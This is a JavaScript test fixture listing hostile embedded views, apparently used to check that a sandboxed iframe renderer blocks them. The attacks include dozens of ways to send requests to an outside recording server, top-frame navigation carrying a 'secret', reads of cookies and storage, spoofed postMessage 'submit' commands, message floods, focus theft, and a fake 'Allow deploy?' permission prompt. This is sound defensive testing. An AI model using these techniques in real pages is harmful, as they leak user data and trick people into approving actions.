// Attacks by a view. Each is a function that runs in its frame: `content` is what it was shown, `url` a server that records
// requests.
export const hostileViews = {
  network: (_, url) => {
    const ways = [
      () => fetch(`${url}/fetch`, { mode: 'no-cors' }),
      () => navigator.sendBeacon(`${url}/beacon`, 'x'),
      () => new WebSocket(url.replace('http', 'ws')),
      () => new EventSource(`${url}/events`),
      () => Object.assign(new Image(), { src: `${url}/image` }),
      () => new Worker(URL.createObjectURL(new Blob([`fetch("${url}/worker")`]))),
      () => import(`${url}/module.js`),
      () => new FontFace('x', `url(${url}/font)`).load(),
      ...['script', 'iframe', 'embed', 'audio', 'video'].map(
        (name) => () => document.body.append(Object.assign(document.createElement(name), { src: `${url}/${name}` })),
      ),
      ...['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'preconnect', 'dns-prefetch'].map(
        (rel) => () =>
          document.head.append(
            Object.assign(document.createElement('link'), { rel, as: 'script', href: `${url}/${rel}` }),
          ),
      ),
      () => Object.assign(document.body.style, { background: `url(${url}/css)` }),
      () =>
        document.body.append(Object.assign(document.createElement('a'), { href: '#', ping: `${url}/ping` })) ??
        document.querySelector('a').click(),
      () => new RTCPeerConnection(),
      () => {
        const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'post' });
        document.body.append(form);
        form.submit();
      },
      () => open(`${url}/open`),
      () => {
        const inner = document.createElement('iframe');
        document.body.append(inner);
        inner.contentWindow.fetch(`${url}/inner`, { mode: 'no-cors' });
      },
    ];
    for (const way of ways) {
      try {
        Promise.resolve(way()).catch(() => {});
      } catch {} // the attack was blocked
    }
    parley.propose({ word: 'tried' });
  },
  inner: (_, url) => {
    for (const name of ['srcdoc', 'src']) {
      const peer = `const peer = new RTCPeerConnection({ iceServers: [{ urls: '${url.replace('http://', 'stun:')}' }] });
          peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
      const value = name === 'srcdoc' ? `<script>${peer}<${'/'}script>` : `javascript:${peer}`;
      document.body.append(Object.assign(document.createElement('iframe'), { [name]: value }));
    }
  },
  parent: async () => {
    const ways = [
      () => parent.document.title,
      () => top.document.body,
      () => parent.localStorage,
      () => localStorage.length,
      () => sessionStorage.length,
      () => document.cookie,
      () => indexedDB.open('x'),
      () => caches.keys(),
      () => parent.location.href,
      () => frameElement.ownerDocument.title,
    ];
    const got = await Promise.all(ways.map(async (way) => way()).map((value) => value.catch(() => undefined)));
    const count = got.filter((value) => value !== undefined).length;
    parley.propose({ word: `got ${count}` });
  },
  top: (_, url) => {
    for (const way of [
      () => {
        top.location = url;
      },
      () => {
        parent.location.href = url;
      },
      () => open(url, '_top'),
      () => alert('x'),
    ]) {
      try {
        way();
      } catch {} // the attack was blocked
    }
    parley.propose({ word: 'tried' });
  },
  close: () => {
    parent.close();
    parley.propose({ word: 'tried' });
  },
  away: (_, url) => {
    location.href = `${url}/away?secret`;
  },
  flood: () => {
    for (let n = 0; n < 100_000; n += 1) parley.propose({ word: String(n) });
  },
  huge: () => parley.propose({ word: 'x'.repeat(5_000_000) }),
  endless: () => {
    const round = {};
    round.round = round;
    parent.postMessage({ type: 'propose', values: round }, '*');
  },
  spoof: () => {
    const says = [
      { type: 'submit' },
      { type: 'parley-answer', detail: { action: 'submit', input: { word: 'spoofed' } } },
      { type: 'propose', values: { word: { toString: 'x' } } },
      { type: 'propose', values: [] },
      { type: 'propose', values: { __proto__: null, constructor: 'x' } },
      { type: 'resize', height: Number.POSITIVE_INFINITY },
      { type: 'resize', height: 100_000 },
      null,
      'ready',
    ];
    for (const each of says) parent.postMessage(each, '*');
    dispatchEvent(new CustomEvent('parley-answer', { detail: { action: 'submit' }, bubbles: true, composed: true }));
    parley.propose({ word: 'said all' });
  },
  buttons: () => {
    document.body.innerHTML =
      '<h2>Allow "deploy"?</h2><button>Deny</button><button>Allow once</button><button>OK</button>';
    parley.resize(300);
  },
  focus: () => {
    if (document.querySelector('input')) return;
    const input = document.body.appendChild(document.createElement('input'));
    input.addEventListener('input', () => parley.propose({ word: input.value }));
    setInterval(() => {
      window.focus();
      input.focus();
    }, 20);
  },
  late: ({ values }) => {
    if (values.word) return;
    let turn = 0;
    setInterval(() => {
      turn += 1;
      parley.propose({ word: `turn ${turn}` });
    }, 50);
  },
};
